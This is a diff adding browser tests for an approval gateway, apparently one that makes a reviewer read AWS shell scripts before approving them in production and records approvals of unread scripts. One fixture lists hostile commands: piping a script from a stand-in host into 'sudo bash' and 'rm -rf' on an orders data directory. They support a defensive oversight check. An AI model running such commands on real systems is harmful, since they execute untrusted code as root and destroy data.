@@ -1,0 +1,103 @@
+"""What a person should read before a yes: code is open, the button says what to read first, and the gateway knows what was read."""
+
+import base64
+
+from tests.browser.kit import NARROW
+
+APPROVE = ".decide button:text-is('Approve in prod')"
+SHORT = ["#!/bin/bash", "curl -s https://x.example/i | sudo bash", "rm -rf /srv/orders/data"]
+LONG = [f"echo step {number}" for number in range(200)]
+
+
+def command(lines: list[str]) -> dict:
+    return {"service": "ssm", "operation": "SendCommand", "params": script(lines)}
+
+
+def script(lines: list[str]) -> dict:
+    return {"DocumentName": "AWS-RunShellScript", "InstanceIds": ["i-0123"], "Parameters": {"commands": lines}}
+
+
+def vote(stage):
+    return next(act for act in stage.acts if act["kind"] == "vote")["act"]
+
+
+def test_a_short_script_is_open_and_read_where_all_of_it_was_on_the_screen(visit, stage):
+    ask = stage.ask(**command(SHORT))
+    page = visit().enter()
+    page.wait_for_selector(".code")
+    assert page.locator(".code .line").all_inner_texts() == SHORT
+    assert page.locator(".code h2").inner_text() == "Script Parameters.commands"
+    page.click(APPROVE)
+    page.wait_for_selector("text=You approved this")
+    assert ask.outcome() == "approve"
+    assert vote(stage)["read"] == ["script Parameters.commands"]
+    assert "unread" not in vote(stage)
+
+
+def test_a_long_script_is_read_first(visit, stage):
+    ask = stage.ask(**command(LONG))
+    page = visit(viewport=NARROW).enter()
+    page.wait_for_selector("text=1 call waiting")
+    page.keyboard.press("j")
+    page.click("text=Read the script first")
+    assert not ask.done.is_set()
+    assert page.locator(APPROVE).count() == 0
+    for at in range(0, 200, 5):
+        page.locator(".code .line").nth(at).scroll_into_view_if_needed()
+    page.locator(".code .line").nth(199).scroll_into_view_if_needed()
+    page.click(APPROVE)
+    assert ask.outcome() == "approve"
+    assert vote(stage)["read"] == ["script Parameters.commands"]
+
+
+def test_approving_unread_takes_another_button_and_is_recorded(visit, stage):
+    ask = stage.ask(**command(LONG * 20))
+    page = visit().enter()
+    page.wait_for_selector(".code")
+    page.click("text=Approve unread…")
+    assert "You have not read the script Parameters.commands. The record will say so." in page.inner_text(".decide")
+    page.keyboard.type("it is the nightly one")
+    page.click("text=Approve unread in prod")
+    page.wait_for_selector("text=You approved this")
+    assert ask.outcome() == "approve"
+    assert vote(stage)["unread"] == ["script Parameters.commands"]
+    assert vote(stage)["knowing"] is True
+
+
+def test_what_the_prompt_does_not_hold_is_opened_and_then_read(visit, stage):
+    ask = stage.ask(**command(LONG * 20))
+    page = visit().enter()
+    page.click("text=Read the script first")
+    page.wait_for_selector("text=End of the text.")
+    assert page.locator(".reader .line").count() == 4000
+    page.click("dialog button:text-is('Close')")
+    page.click(APPROVE)
+    assert ask.outcome() == "approve"
+    assert vote(stage)["read"] == ["script Parameters.commands"]
+
+
+def test_a_page_that_believes_too_much_is_told_to_read_again(visit, stage):
+    ask = stage.ask(**command(LONG))
+    page = visit().enter()
+    page.wait_for_selector("text=Read the script first")
+    page.evaluate(
+        """async () => {
+            const { markRead, state } = await import("/state.js");
+            const [prompt] = state.prompts.values();
+            markRead(prompt, prompt.to_read[0].part);
+        }"""
+    )
+    page.click(APPROVE)
+    page.wait_for_selector("text=read first: script Parameters.commands")
+    page.wait_for_selector("text=Read the script first")
+    assert not ask.done.is_set()
+
+
+def test_user_data_is_decoded_and_a_password_stays_folded(visit, stage):
+    data = base64.b64encode("\n".join(SHORT).encode()).decode()
+    stage.ask(service="ec2", operation="RunInstances", params={"UserData": data, "MasterUserPassword": "hunter2hunter2"})
+    page = visit().enter()
+    assert page.locator(".code .line").all_inner_texts() == SHORT
+    assert "hunter2" not in page.content()
+    assert "decoded from Base64" in page.inner_text(".code")
+    assert "1 part not shown" in page.inner_text("#not-shown")
